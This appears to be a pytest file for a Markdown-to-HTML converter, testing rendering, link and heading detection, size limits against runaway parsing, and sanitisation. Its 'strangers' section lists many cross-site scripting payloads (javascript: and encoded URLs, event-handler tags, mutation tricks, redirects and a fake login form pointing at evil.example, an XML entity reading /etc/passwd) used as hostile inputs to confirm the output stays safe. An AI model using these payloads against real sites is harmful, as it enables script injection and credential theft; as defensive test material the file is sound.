"""Markdown becomes clean HTML, whatever strangers write, and says what it refers to and where."""

from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest

from sitegen import markup
from sitegen.markup import Heading, Markup, Mention, as_text, chapters, convert, too_tangled

FILLED = {
    "figure": lambda key: f'<a class="fig" href="#figure-{key}">35%</a>',
    "citation": lambda numbers: f"<sup>{numbers}</sup>",
    **dict.fromkeys(markup.LINK_KINDS, lambda target: f"{target}.html"),
}
"""What a page fills in; the real ones stand in sitegen/pages/views/texts.py."""


def html(text: str) -> str:
    """The HTML of a text, with everything filled in."""
    return convert(text).fill(FILLED)


def told(text: str, kind: str) -> list[tuple[str, int, int]]:
    """Target, line and column of each mention of one kind."""
    return [(m.target, m.line, m.column) for m in convert(text).of_kind(kind)]


# --- what is written -----------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("*a* **b** `c`", "<p><em>a</em> <strong>b</strong> <code>c</code></p>"),
        ("- a\n- b\n", "<ul>\n<li>a</li>\n<li>b</li>\n</ul>"),
        ("1. a\n2. b\n", "<ol>\n<li>a</li>\n<li>b</li>\n</ol>"),
        ("> a\n", "<blockquote>\n<p>a</p>\n</blockquote>"),
        ("a  \nb\n\n***\n", "<p>a<br>\nb</p>\n<hr>"),
        ('"It\'s so", they said.', "<p>“It’s so”, they said.</p>"),
        ("a -- b ...", "<p>a -- b ...</p>"),
        ("5 < 6 & 7 > 3", "<p>5 &lt; 6 &amp; 7 &gt; 3</p>"),
        (
            "[a](https://example.org/?a=1&b=2)",
            '<p><a href="https://example.org/?a=1&amp;b=2" rel="noopener noreferrer">a</a></p>',
        ),
        (
            "<https://example.org/>",
            '<p><a href="https://example.org/" rel="noopener noreferrer">https://example.org/</a></p>',
        ),
        (
            "[a](case:x-y)",
            '<p><a href="x-y.html" rel="noopener noreferrer">a</a></p>',
        ),
        (
            "Fell by {{ figure:a-b }}.",
            '<p>Fell by <a class="fig" href="#figure-a-b">35%</a>.</p>',
        ),
        ("Told [@1; @12].", "<p>Told<sup>1,12</sup>.</p>"),
        ("![a](b.png)", "<p>![a](b.png)</p>"),
        ("a@b.example <a@b.example>", "<p>a@b.example &lt;a@b.example&gt;</p>"),
        (
            "a | b\n--|--\n{{ figure:x }} | [@1]\n",
            (
                '<table>\n<thead>\n<tr>\n<th scope="col">a</th>\n<th scope="col">b</th>\n</tr>\n'
                "</thead>\n<tbody>\n<tr>\n"
                '<td><a class="fig" href="#figure-x">35%</a></td>\n<td><sup>1</sup></td>\n</tr>\n'
                "</tbody>\n</table>"
            ),
        ),
    ],
)
def test_markdown_becomes_html(text: str, expected: str) -> None:
    """Emphasis, lists, tables, links, figures and citations; nothing more is needed."""
    assert html(text) == expected


def test_marks_are_kept_until_the_page_is_rendered() -> None:
    """The same text gives the same value, whatever the case says today."""
    made = convert("{{ figure:a }} [@1] [b](case:c)")
    assert made == convert("{{ figure:a }} [@1] [b](case:c)")
    figures = {**FILLED, "figure": lambda key: key.upper()}
    assert "A<sup>1</sup>" in made.fill(figures)


def test_kinds_that_a_reader_does_not_fill_stay() -> None:
    """A search index needs no addresses."""
    made = convert("[a](case:b) {{ figure:c }}")
    filled = made.fill({"figure": lambda key: key, "citation": lambda _numbers: ""})
    assert 'href="case:b"' in filled


def test_mark_inside_an_address_stands_for_nothing() -> None:
    """HTML that is filled in never ends up inside a tag."""
    assert html("[a](https://example.org/{{figure:b}}/[@1])") == (
        '<p><a href="https://example.org//" rel="noopener noreferrer">a</a></p>'
    )


def test_text_that_looks_like_a_link_is_no_link() -> None:
    """In a code span the words stay as they are written."""
    assert html('`<a href="case:nowhere">`') == (
        '<p><code>&lt;a href="case:nowhere"&gt;</code></p>'
    )


@pytest.mark.parametrize(
    "forged",
    [
        "&#xE000;figure&#xE002;x&#xE001;",
        "&#xe000;nonsense&#xe002;x&#xe001;",
        "&#57344;citation&#57346;1&#57345;",
        "&#x00E000;link&#x0E002;x&#XE001;",
    ],
)
def test_mark_cannot_be_forged(forged: str) -> None:
    """Whatever a stranger writes, only our own syntax is filled in."""
    assert "35%" not in html(forged)
    assert "<sup>" not in html(forged)


# --- what a text refers to -----------------------------------------------------------------------


def test_mentions_have_their_places() -> None:
    """Rules point at the line and column of what they find."""
    text = "One {{ figure:a }}\n\ntwo [@2; @3] and 57 days,\n[x](case:y) <b>\n![p](q)\n"
    assert told(text, "figure") == [("a", 1, 5)]
    assert told(text, "citation") == [("2", 3, 5), ("3", 3, 5)]
    assert told(text, "number") == [("57", 3, 18)]
    assert told(text, "link") == [("case:y", 4, 5)]
    assert told(text, "html") == [("<b", 4, 13)]
    assert told(text, "picture") == [("![", 5, 1)]


@pytest.mark.parametrize(
    ("text", "target"),
    [
        ("[a](case:b)", "case:b"),
        ("[a](<case:b c>)", "case:b c"),
        ("[a](case:b 'title')", "case:b"),
        ("[a][1]\n\n[1]: case:b\n", "case:b"),
        ("[a]\n\n[a]: case:b\n", "case:b"),
        ("[a](../cases/b.html)", "../cases/b.html"),
        ("[a](//evil.example)", "//evil.example"),
        ("[a](javascript:alert(1))", "javascript:alert(1)"),
        ("[a](mailto:b@c.example)", "mailto:b@c.example"),
        ("[a]()", ""),
        ("<https://example.org>", "https://example.org"),
    ],
)
def test_no_way_of_writing_a_link_is_overlooked(text: str, target: str) -> None:
    """What is a link on the page is a link to the rules, which look where it leads."""
    assert [mention.target for mention in convert(text).of_kind("link")] == [target]


def test_same_address_twice_has_two_places() -> None:
    """And an address that begins like another one is not taken for it."""
    text = "[a](case:b-c) [d](case:b)\n[e](case:b)"
    assert told(text, "link") == [("case:b-c", 1, 5), ("case:b", 1, 19), ("case:b", 2, 5)]


@pytest.mark.parametrize(
    ("text", "numbers"),
    [
        ("14,076 hours", ["14,076"]),
        ("£8.00 or 35% or 1.5", ["£8.00", "35%", "1.5"]),
        ("A4, v2, 3/4, 10.1.2", []),
        ("{{ figure:a-35 }} [@12] [x](case:y-35) https://example.org/99", []),
        ("30 mph, 36.", ["30", "36"]),
    ],
)
def test_numbers_of_the_prose(text: str, numbers: list[str]) -> None:
    """Numbers in keys, citations, addresses and codes are no figures."""
    assert [mention.target for mention in convert(text).of_kind("number")] == numbers


@pytest.mark.parametrize(
    "text", ["<b>x</b>", "<!-- x -->", "</p>", "<script", "&lt;", "&#x202e;", "&rlm;", "&#106;"]
)
def test_html_and_entities_are_mentioned(text: str) -> None:
    """A rule refuses them: they would be shown as they stand, or hide a character."""
    assert next(convert(text).of_kind("html")).line == 1


@pytest.mark.parametrize("text", ["AT&T; R&D", "a < b", "5<6", "a &b; c"])
def test_signs_that_are_no_html(text: str) -> None:
    """A bare ampersand or a comparison with spaces passes unless it reads as an entity."""
    assert [mention.target for mention in convert(text).of_kind("html")] in ([], ["&T;"], ["&b;"])


# --- headings ------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "heading"),
    [
        ("## A", Heading(level=2, title="A", anchor="part-a", line=1)),
        ("\n\n##A", Heading(level=2, title="A", anchor="part-a", line=3)),
        ("## A ##", Heading(level=2, title="A", anchor="part-a", line=1)),
        ("A\n---\n", Heading(level=2, title="A", anchor="part-a", line=1)),
        ("x\n\nA\n===\n", Heading(level=1, title="A", anchor="part-a", line=3)),
        (
            "#5 on the list",
            Heading(level=1, title="5 on the list", anchor="part-5-on-the-list", line=1),
        ),
        ("x\n\n> ### A", Heading(level=3, title="A", anchor="part-a", line=3)),
        ("- ## A", Heading(level=2, title="A", anchor="part-a", line=1)),
        ("## A *b* & `c` [@1]", Heading(level=2, title="A b & c", anchor="part-a-b-c", line=1)),
        (
            "## What's “new”?",
            Heading(level=2, title="What’s “new”?", anchor="part-whats-new", line=1),
        ),
        ("## Eksjö", Heading(level=2, title="Eksjö", anchor="part-eksjo", line=1)),
        ("## Κέντρο", Heading(level=2, title="Κέντρο", anchor="part-heading", line=1)),
    ],
)
def test_every_way_of_writing_a_heading_is_seen(text: str, heading: Heading) -> None:
    """Rules and outlines see the headings that readers see, with the line they were written on."""
    assert convert(text).headings == (heading,)


def test_anchor_is_the_id_on_the_page() -> None:
    """Also where two headings have the same words."""
    made = convert("## A\n\nx\n\n## A\n\n### A\n")
    assert [(heading.anchor, heading.line) for heading in made.headings] == [
        ("part-a", 1),
        ("part-a_1", 5),
        ("part-a_2", 7),
    ]
    assert all(f'id="{heading.anchor}"' in made.html for heading in made.headings)


def test_code_is_no_heading() -> None:
    """An indented line is shown as it stands."""
    assert convert("x\n\n    ## A\n").headings == ()


# --- plain text ----------------------------------------------------------------------------------


def test_plain_text_has_a_line_for_each_block() -> None:
    """What search reads: no tags, no marks, entities as signs."""
    made = convert("## A\n\nb *c* & d[@1]\n\n- e\n- f {{ figure:g }}\n")
    assert as_text(made.html) == "A\nb c & d\ne\nf"
    assert made.words == 7


def test_plain_text_survives_any_address() -> None:
    """A bracket inside an address does not end the tag."""
    assert as_text(convert("[a](<https://example.org/?b>c>) d").html) == "a d"


# --- time ----------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "why"),
    [
        ("x" * 60_001, "a text has at most 60,000 characters, this one has 60,001"),
        ("\n" * 2_000, "a text has at most 2,000 lines, this one has 2,001"),
        *(
            (sign * 601, f"at most 600 of the sign {sign} are allowed in a text, found more")
            for sign in "[<*_`!\\"
        ),
        *(
            (sign * 2_001, f"at most 2,000 of the sign {sign} are allowed in a text, found more")
            for sign in "|'\""
        ),
        ("a" + " " * 101 + "b", "at most 100 spaces may follow one another, found more"),
        ("a" + "\t" * 30 + "b", "at most 100 spaces may follow one another, found more"),
        *(
            (text, "quotations and lists are nested at most 6 deep, found more")
            for text in (
                "> " * 7,
                ">" * 7 + "x",
                "- " * 7 + "x",
                "1. " * 7 + "x",
                "> - * + 1. > - x",
                " " * 25 + "- x",
            )
        ),
    ],
)
def test_text_that_would_keep_the_converter_busy_is_refused(text: str, why: str) -> None:
    """Twenty kilobytes of brackets would take minutes, three hundred lists the whole stack."""
    assert too_tangled(text) == why


@pytest.mark.parametrize(
    "text",
    [
        "> > > - a\n",
        "- - - -\n",
        "*" * 600,
        "'" * 2_000,
        "a | b\n--|--\n" + "1 | 2\n" * 600,
        "words " * 9_000,
        "1. a\n    - b\n        - c\n",
    ],
)
def test_what_people_write_is_not_tangled(text: str) -> None:
    """The limits are far from any real text, and what is below them is converted at once."""
    assert too_tangled(text) is None
    assert convert(text).html


# --- strangers -----------------------------------------------------------------------------------

JAVASCRIPT = (
    *(
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        " javascript:alert(1)",
        "java\tscript:alert(1)",
    ),
    *("javascript&colon;alert(1)", "java&#115;cript:alert(1)", "&#x6A;avascript:alert(1)"),
    *("&#0000106avascript:alert(1)", "javascript&#x3A;alert(1)", "jav&#x09;ascript:alert(1)"),
    *("jav&#x0A;ascript:alert(1)", "\\javascript:alert(1)", "javascript:%61lert(1)"),
    *("data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD4=", "DATA:,x"),
    *("vbscript:msgbox(1)", "VBSCRIPT:x", "file:///etc/passwd", "blob:https://a/b", "about:blank"),
    *("feed:javascript:alert(1)", "view-source:x", "jar:x", "x-javascript:alert(1)", "ws://a"),
)
"""Addresses that run something, or lead out of the web."""

PAYLOADS = (
    *(f"[a]({address})" for address in JAVASCRIPT),
    *(f"[a](<{address}>)" for address in JAVASCRIPT),
    *(f"<{address}>" for address in JAVASCRIPT),
    *(f"[a]\n\n[a]: {address}\n" for address in JAVASCRIPT),
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)//",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext></p><mglyph><style><img src=x onerror=alert(1)>",
    '<math href="javascript:alert(1)">a</math>',
    "<template><script>alert(1)</script></template>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<base href=//evil.example>",
    "<form action=//evil.example><input type=password></form>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example>",
    "<style>@import '//evil.example';</style>",
    "<p style='position:fixed;inset:0'>a</p>",
    "<a href='javascript:alert(1)'>a</a>",
    "<details open ontoggle=alert(1)>",
    "<body onload=alert(1)>",
    "<!--<img src=--><img src=x onerror=alert(1)//-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?><script>alert(1)</script>",
    "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea></textarea><img src=x onerror=alert(1)>",
    "</p></main><script>alert(1)</script>",
    '[a](https://example.org "x\\" onmouseover=alert(1) y=\\"")',
    "[a](https://example.org 'x\" onmouseover=alert(1) y=\"')",
    '[a](https://example.org/" onmouseover="alert(1))',
    '[a](https://example.org/"onmouseover="alert(1)")',
    "[a](https://example.org/><img src=x onerror=alert(1)>)",
    "[<img src=x onerror=alert(1)>](https://example.org)",
    "[![a](x)](javascript:alert(1))",
    "[[a](javascript:alert(1))](https://example.org)",
    "[a](https://example.org)(javascript:alert(1))",
    '![a](x" onerror="alert(1))',
    "![a](javascript:alert(1))",
    "![a][b]\n\n[b]: javascript:alert(1)\n",
    "`<script>alert(1)</script>`",
    "```\n<script>alert(1)</script>\n```",
    "    <script>alert(1)</script>",
    "~~~ {onclick=alert(1)}\na\n~~~",
    "## a {onclick=alert(1)}",
    "## <img src=x onerror=alert(1)>",
    "## a {#body}",
    "a{: onclick=alert(1)}",
    "[a](https://example.org){: onclick=alert(1)}",
    "<div markdown=1>*a*<script>alert(1)</script></div>",
    "a | b\n--|--\n<script>alert(1)</script> | `|<img src=x onerror=alert(1)>`\n",
    "> <script>alert(1)</script>",
    "- <script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&amp;lt;script&amp;gt;",
    "{{ figure:<script>alert(1)</script> }}",
    '{{ figure:a"onmouseover="alert(1) }}',
    '[a](case:x"onmouseover=alert(1))',
    "[a](case:<script>alert(1)</script>)",
    "[a](case:javascript:alert(1))",
    "[^1]\n\n[^1]: <script>alert(1)</script>",
    "*[HTML]: <script>alert(1)</script>\n\nHTML",
    "<x onclick=alert(1)>",
    "<a\nhref=javascript:alert(1)>a</a>",
    "<a href=\x01javascript:alert(1)>a</a>",
    "\x02wzxhzdk:0\x03 \x02klzzwxh:0001\x03<script>alert(1)</script>",
    "<<script>alert(1)//<</script>",
    "＜script＞alert(1)＜/script＞",
    "<script\u2028>alert(1)</script>",
    "<ScRiPt\x0c>alert(1)</ScRiPt>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
)


class Reader(HTMLParser):
    """Reads HTML as a browser does and notes every tag and attribute."""

    def __init__(self) -> None:
        super().__init__()
        self.seen: list[tuple[str, dict[str, str | None]]] = []
        self.other: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Note a tag."""
        self.seen.append((tag, dict(attrs)))

    def handle_comment(self, data: str) -> None:
        """Note what should not be there."""
        self.other.append(data)

    def handle_decl(self, decl: str) -> None:
        """Note what should not be there."""
        self.other.append(decl)

    def handle_pi(self, data: str) -> None:
        """Note what should not be there."""
        self.other.append(data)

    def unknown_decl(self, data: str) -> None:
        """Note what should not be there."""
        self.other.append(data)


OURS = {
    "a": {"href", "rel"},
    **{heading: {"id"} for heading in ("h2", "h3", "h4")},
    "th": {"scope"},
}
"""Tag -> attributes that the converter gives it."""


def _unwelcome(page: str) -> list[str]:
    """Everything in the HTML that no text of ours may hold."""
    reader = Reader()
    reader.feed(page)
    reader.close()
    wrong = list(reader.other)
    for tag, attributes in reader.seen:
        if tag not in markup.TAGS or attributes.keys() - OURS.get(tag, set()):
            wrong.append(f"{tag} {attributes}")
        if not (attributes.get("id") or "part-").startswith("part-"):
            wrong.append(f"id {attributes['id']}")
        scheme = urlsplit((attributes.get("href") or "").strip("\x00- ")).scheme
        if scheme and scheme.lower() not in markup.SCHEMES:
            wrong.append(f"href {attributes['href']}")
    return wrong


@pytest.mark.parametrize("payload", PAYLOADS)
def test_nothing_runs(payload: str) -> None:
    """What comes out holds allowed tags, attributes and addresses only, alone and in a sentence."""
    assert _unwelcome(convert(payload).html) == []
    assert _unwelcome(convert(f"Some words {payload} and *more* of them.").html) == []


def test_watchman_sees() -> None:
    """The check above would notice each kind of harm."""
    assert _unwelcome("<script>x</script>") == ["script {}"]
    assert _unwelcome("<p onclick=x>") == ["p {'onclick': 'x'}"]
    assert _unwelcome("<a href='javascript:x'>") == ["href javascript:x"]
    assert _unwelcome("<h2 id=body>") == ["id body"]
    assert _unwelcome("<!-- x -->") == [" x "]


def test_records_are_plain_values() -> None:
    """They can be compared and remembered."""
    assert convert("[a](case:b)") == Markup(
        html='<p><a href="case:b" rel="noopener noreferrer">a</a></p>',
        headings=(),
        mentions=(Mention(kind="link", target="case:b", line=1, column=5),),
        words=1,
    )


def test_chapters_begin_at_headings_of_their_own() -> None:
    """A heading within a quotation or a list opens none, and nothing is lost."""
    text = "First.\n\n## One\n\n> ## Said\n\n- a<br>\n\n---\n\n## Two\n\n### Three"
    html = convert(text).html
    pieces = chapters(html)
    assert [piece.partition(">")[0] for piece in pieces] == [
        "<p",
        '<h2 id="part-one"',
        '<h2 id="part-two"',
    ]
    assert "".join("".join(pieces).split()) == "".join(html.split())


def test_empty_text_has_no_chapter() -> None:
    """Nothing is printed for it."""
    assert chapters("") == ()
